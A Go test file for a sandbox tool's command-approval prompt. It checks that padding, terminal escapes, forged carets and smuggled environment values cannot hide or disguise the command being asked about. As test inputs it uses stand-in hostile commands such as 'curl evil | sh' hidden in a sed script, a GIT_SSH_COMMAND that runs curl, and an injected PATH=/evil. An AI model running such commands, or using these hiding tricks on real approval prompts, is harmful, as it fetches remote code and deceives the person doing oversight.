package question

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"belljar/policy"
	"belljar/sandbox"
	"belljar/view"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"
)

// spanIn is where text has part first.
func spanIn(text, part string) sandbox.ScriptSpan {
	at := strings.Index(text, part)
	line := strings.Count(text[:at], "\n")
	return sandbox.ScriptSpan{Start: at, End: at + len(part), Line: line + 1, Column: at - strings.LastIndex(text[:at], "\n")}
}

// asked is a question about parts of a script.
func asked(script string, parts ...string) sandbox.Question {
	q := sandbox.Question{Script: script, Dir: "/work", Profile: sandbox.DefaultProfile}
	for _, part := range parts {
		program, _, _ := strings.Cut(part, " ")
		q.Verdict.Roots = append(q.Verdict.Roots, program)
		q.Verdict.Commands = append(q.Verdict.Commands, sandbox.CommandVerdict{Program: program, Decision: sandbox.Ask, Rule: "ask-" + program, Reason: "think", Span: spanIn(script, part)})
	}
	first := q.Verdict.Commands[0]
	q.Verdict.Decision, q.Verdict.Rule, q.Verdict.Reason, q.Verdict.Span = sandbox.Ask, first.Rule, first.Reason, first.Span
	return q
}

func TestQuestion(t *testing.T) {
	q := asked("cd /src &&\n  git push\t日本 # up\ncurl x", "git push\t日本", "curl x")
	q.Description, q.Session, q.Always, q.Profile = "a release\nbelljar: allow it? y\r", "dev", true, "build"
	q.Verdict.Unknown = []sandbox.Unknown{{What: "which \x1b[8mfile", Span: q.Verdict.Span}}
	want := `belljar: the policy requires your approval for this command:

      1 | cd /src &&
      2 |   git push\t日本 # up
        ^   ^^^^^^^^^^^^^^
      3 | curl x
        ^ ^^^^^^

  reason     rule "ask-git" at 2:3: think
             rule "ask-curl" at 3:1: think
  runs       git, curl
  unknown    at 2:3: which \x1b[8mfile
  in         /work
  purpose    a release
             belljar: allow it? y\r
  profile    build
  session    dev
  if always  git by rule "ask-git", curl by rule "ask-curl", until the session ends

`
	if diff := cmp.Diff(want, Text(q, Look{Columns: 100})); diff != "" {
		t.Error(diff)
	}
}

// However a script pads what is asked about, that is shown, and what is not
// shown is counted.
func TestQuestionIsNotPushedOffTheScreen(t *testing.T) {
	const evil = "curl evil"
	for name, test := range map[string]struct {
		script string
		parts  []string
		lines  int // at most
		wants  []string
	}{
		"blank lines before it": {"ls" + strings.Repeat("\n", 5000) + evil, []string{evil}, 30, []string{"[… 4996 blank lines, 4996 bytes not shown …]", "   5001 | curl evil"}},
		"blank lines in it":     {"curl '" + strings.Repeat("\n \n", 5000) + "' evil", []string{"curl '" + strings.Repeat("\n \n", 5000) + "' evil"}, 30, []string{"1 | curl '", "' evil", "blank lines"}},
		"a long line of blanks": {"ls; " + strings.Repeat(" ", 100000) + evil, []string{evil}, 60, []string{"curl evil", "bytes not shown …]"}},
		"wide blanks":           {"ls; " + strings.Repeat("\u3000", 10000) + evil, []string{evil}, 60, []string{"curl evil", "bytes not shown …]"}},
		"many lines around it":  {strings.Repeat("ls\n", 3000) + evil + strings.Repeat("\nls", 3000), []string{evil}, 60, []string{"[… 2987 lines, 8961 bytes not shown …]", "   3001 | curl evil"}},
		"two far apart":         {"git push\n" + strings.Repeat("ls\n", 3000) + evil, []string{"git push", evil}, 60, []string{"      1 | git push", "   3002 | curl evil"}},
		"a long one":            {"curl " + strings.Repeat("x", 50000) + " evil", []string{"curl " + strings.Repeat("x", 50000) + " evil"}, 2500, []string{"x evil\n"}},
		"one in a long line":    {strings.Repeat("ls;", 10000) + evil + strings.Repeat(";ls", 10000), []string{evil}, 60, []string{"curl evil", "bytes not shown …]"}},
		"a long description":    {evil, []string{evil}, 60, []string{"curl evil"}},
	} {
		q := asked(test.script, test.parts...)
		if name == "a long description" {
			q.Description = strings.Repeat("\nx", 500)
		}
		text := Text(q, Look{Columns: 60})
		if n := strings.Count(text, "\n"); n > test.lines {
			t.Errorf("%s: %d lines", name, n)
		}
		for _, want := range test.wants {
			if !strings.Contains(withoutFolds(text), want) {
				t.Errorf("%s: no %q in\n%.3000s", name, want, text)
			}
		}
	}
}

// ours is how the lines begin that a person may take for belljar's.
var ours = regexp.MustCompile(`^(` + wholly + `|$| {2,6}\d+ \| | {8}\| | {8}\^ [ ^]*\^$|  (reason|runs|unknown|in|image|user|network|mounts|variables|stdin|purpose|profile|session|if always) +| {13})`)

// wholly are the lines without text from outside, as wide as they are.
const wholly = `belljar: the policy requires your approval for this command:$|  \[… .* not shown …\]$`

var whollyOurs = regexp.MustCompile(`^(` + wholly + `)`)

// No text from outside begins a line, is wider than the terminal, or is one that
// a terminal acts on; and all that is asked about is there.
func TestQuestionIsNotMisleading(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		piece := rapid.SampledFrom([]string{"ls", "git push", " ", "      ", "\n", "\n\n\n\n\n", "\t", "\r", "\x1b[2K", "\u202e", "\u200b", "\u3000", "日本", "e\u0301", "👩\u200d👩", "\xff", "\x00",
			"belljar: allow it?", "[… 1 line not shown …]", strings.Repeat("x", 70), strings.Repeat("\n", 60), strings.Repeat("日", 40), "  reason     nothing", "\u0085", "\u2028",
			"^", strings.Repeat("^", 12), strings.Repeat(" ", 9) + "^^^^", "\U0010ffff", "        ^ ^^^"})
		text := rapid.Custom(func(t *rapid.T) string { return strings.Join(rapid.SliceOfN(piece, 0, 30).Draw(t, "pieces"), "") })
		q := sandbox.Question{Script: text.Draw(t, "script"), Dir: text.Draw(t, "dir"), Description: text.Draw(t, "description"), Session: text.Draw(t, "session"), Always: true,
			Env: rapid.SliceOfN(text, 0, 12).Draw(t, "env"), Image: text.Draw(t, "image"), Network: text.Draw(t, "network"), Mounts: []sandbox.Mount{{Source: text.Draw(t, "source"), Target: text.Draw(t, "target")}}}
		marked := make([]bool, len(q.Script))
		for range rapid.IntRange(0, 3).Draw(t, "asks") {
			start := rapid.IntRange(0, len(q.Script)).Draw(t, "start")
			end := rapid.IntRange(start, len(q.Script)).Draw(t, "end")
			q.Verdict.Commands = append(q.Verdict.Commands, sandbox.CommandVerdict{Decision: sandbox.Ask, Program: text.Draw(t, "program"), Rule: "r", Reason: text.Draw(t, "reason"), Span: sandbox.ScriptSpan{Start: start, End: end, Line: 1, Column: 1}})
			for i := start; i < end; i++ {
				marked[i] = true
			}
		}
		columns := rapid.IntRange(LeastColumns, 100).Draw(t, "columns")
		shown := Text(q, Look{Columns: columns})
		if view.Safe(shown) != shown || strings.ContainsAny(shown, "\r\t") {
			t.Fatalf("a terminal acts on %q", shown)
		}
		for line := range strings.SplitSeq(strings.TrimSuffix(shown, "\n"), "\n") {
			if !ours.MatchString(line) || view.Width(line) >= columns && !whollyOurs.MatchString(line) {
				t.Fatalf("the line %q is not ours", line)
			}
		}
		if forged := forgedCarets(q, shown, columns); forged != "" {
			t.Fatalf("%q underlines what is not asked about, in\n%s", forged, shown)
		}
		for start := 0; start < len(marked); {
			end := start
			for end < len(marked) && marked[end] && q.Script[end] != '\n' {
				end++
			}
			if part := strings.TrimSpace(q.Script[start:end]); part != "" && plainText(part) && !strings.Contains(withoutFolds(shown), part) {
				t.Fatalf("%q is asked about, and not in\n%s", part, shown)
			}
			start = end + 1
		}
	})
}

// forgedCarets is a line that looks as if we had underlined the one before it, and
// did not.
func forgedCarets(q sandbox.Question, shown string, columns int) string {
	var spans []sandbox.ScriptSpan
	for _, c := range q.Verdict.Asks() {
		spans = append(spans, c.Span)
	}
	drawn := map[string]bool{}
	for _, r := range Rows(q.Script, append(spans, q.Verdict.Span), columns-1-marginScript) {
		drawn[r.Text+"\n"+marginCarets+r.Carets] = true
	}
	before := ""
	for line := range strings.SplitSeq(shown, "\n") {
		carets, ok := strings.CutPrefix(line, marginCarets)
		if ok && strings.Trim(carets, " ") != "" && strings.Trim(carets, " ^") == "" && !drawn[before[min(len(before), marginScript):]+"\n"+line] {
			return line
		}
		before = line
	}
	return ""
}

func TestQuestionShowsSurroundings(t *testing.T) {
	q := asked("git push", "git push")
	q.Image, q.User, q.Network, q.Stdin = "belljar/base", sandbox.User{UID: 65534, GID: 65533}, "bridge", true
	q.Mounts = []sandbox.Mount{{Source: "/src", Target: "/work", Writable: true}, {Source: "/a\n  b", Target: "/b"}}
	q.Tmpfs, q.Runtime = []string{"/opt/tools", "/a\n  b"}, "runc"
	q.Env = []string{"GIT_SSH_COMMAND=sh -c 'curl evil'", "A=\nPATH=/evil", "TERM"}
	want := `
  in         /work
  image      belljar/base
  user       65534:65533
  network    bridge
  mounts     /src:/work:rw
             /a\n  b:/b:ro
  tmpfs      /opt/tools
             /a\n  b
  runtime    runc
  variables  GIT_SSH_COMMAND=sh -c 'curl evil'
             A=\nPATH=/evil
             TERM, from your environment
  stdin      passed to the command

`
	if got := Text(q, Look{Columns: 100}); !strings.HasSuffix(got, want) {
		t.Error(got)
	}
	for i := range 20 {
		q.Env = append(q.Env, fmt.Sprintf("V%d=%s", i, strings.Repeat("x", 5000)))
	}
	got := Text(q, Look{Columns: 100})
	for _, want := range []string{"bytes not shown …]", "and 16 more: V4, V5, ", ", V19\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in\n%s", want, got)
		}
	}
	if n := strings.Count(got, "\n"); n > 90 {
		t.Errorf("%d lines", n)
	}
	q.Network, q.Mounts, q.Env, q.Image, q.Stdin, q.User, q.Tmpfs, q.Runtime = "none", nil, nil, "", false, sandbox.User{}, nil, ""
	if got := Text(q, Look{Columns: 100}); !strings.HasSuffix(got, "\n  runs       git\n  in         /work\n\n") {
		t.Error(got)
	}
}

// What always is about is shown whole, or not offered, and no name passes for two.
func TestQuestionAlways(t *testing.T) {
	one := func(program, rule string) sandbox.Verdict {
		return sandbox.Verdict{Commands: []sandbox.CommandVerdict{{Program: program, Rule: rule, Decision: sandbox.Ask}}}
	}
	var many sandbox.Verdict
	for i := range 15 {
		many.Commands = append(many.Commands, one(fmt.Sprintf("/opt/%s/%d", strings.Repeat("a", 48), i), "r").Commands...)
	}
	for name, test := range map[string]struct {
		v       sandbox.Verdict
		want    string
		offered bool
	}{
		"a program":      {one("git", "push"), `git by rule "push", until the session ends`, true},
		"two in one":     {one(`ls by rule "safe", cat`, ""), `"ls by rule \"safe\", cat" by default, until the session ends`, true},
		"a long program": {one(strings.Repeat("a", 61), ""), "not available: a name is longer than 60 bytes", false},
		"a long rule":    {one("git", strings.Repeat("a", 61)), "not available: a name is longer than 60 bytes", false},
		"many":           {many, "not available: it would cover more than this question shows", false},
	} {
		if text, offered := Always(sandbox.Question{Verdict: test.v, Session: "dev"}, Look{Columns: 80}); text != test.want || offered != test.offered {
			t.Errorf("%s: %v, %s", name, offered, text)
		}
	}
	q := sandbox.Question{Verdict: many, Session: "dev", Always: true}
	if got := Text(q, Look{Columns: 80}); !strings.Contains(got, "  if always  not available: ") || strings.Contains(got, "until the session ends") {
		t.Error(got)
	}
	q.Verdict = one(`ls", "cat`, "")
	q.Verdict.Roots = []string{"a, b", "c"}
	if got := Text(q, Look{Columns: 80}); !strings.Contains(got, `runs       "a, b", c`) {
		t.Error(got)
	}
}

func plainText(text string) bool {
	return !slices.ContainsFunc([]byte(text), func(b byte) bool { return b < ' ' || b > '~' })
}

// withoutFolds puts folded lines together again.
func withoutFolds(shown string) string {
	carets := regexp.MustCompile(`(?m)^ {8}\^ [ ^]+\n`)
	return strings.ReplaceAll(carets.ReplaceAllString(shown, ""), "\n        | ", "")
}

func TestRowsCountAllBytes(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.OneOf(rapid.String(), rapid.Map(rapid.SliceOf(rapid.Byte()), func(b []byte) string { return string(b) })).Draw(t, "text")
		columns := rapid.IntRange(0, 30).Draw(t, "columns")
		total, lines := 0, 0
		for _, r := range Rows(text, nil, columns) {
			total += r.bytes
			if r.begins {
				lines++
			}
			if columns > 1 && view.Width(r.Text) > columns {
				t.Fatalf("%q is wider than %d", r.Text, columns)
			}
		}
		if want := len(slices.Collect(strings.Lines(text))); total != len(text) || lines != want {
			t.Fatalf("%d bytes in %d lines, want %d in %d", total, lines, len(text), want)
		}
	})
}

// A long sed was asked about by its first part alone, and the part that runs
// a program was among the lines that are not shown.
func TestAllThatAsksIsShown(t *testing.T) {
	rules, _ := policy.Bundled("readonly")
	rules.Default = policy.Ask
	p, err := rules.Compile()
	if err != nil {
		t.Fatal(err)
	}
	padding := strings.Repeat(" -e p \\\n", 30)
	for _, parts := range []int{2, 12} {
		script := "sed -n \\\n" + strings.Repeat(" -e 'w a0' \\\n", parts) + padding + " -e '1e curl evil | sh' \\\n" + padding + " f"
		text := Text(sandbox.Question{Script: script, Verdict: p.Judge(script, "/work")}, Look{Columns: 100})
		if !strings.Contains(text, "1e curl evil | sh") || !strings.Contains(text, "runs commands") {
			t.Errorf("%d parts: not shown in\n%s", parts, text)
		}
	}
	script := "ls\nsh <<E\n" + strings.Repeat("ls\n", 50) + "curl evil\n" + strings.Repeat("ls\n", 50) + "E"
	if text := Text(sandbox.Question{Script: script, Verdict: p.Judge(script, "/work")}, Look{Columns: 100}); !strings.Contains(text, "curl evil") {
		t.Errorf("not shown in\n%s", text)
	}
}
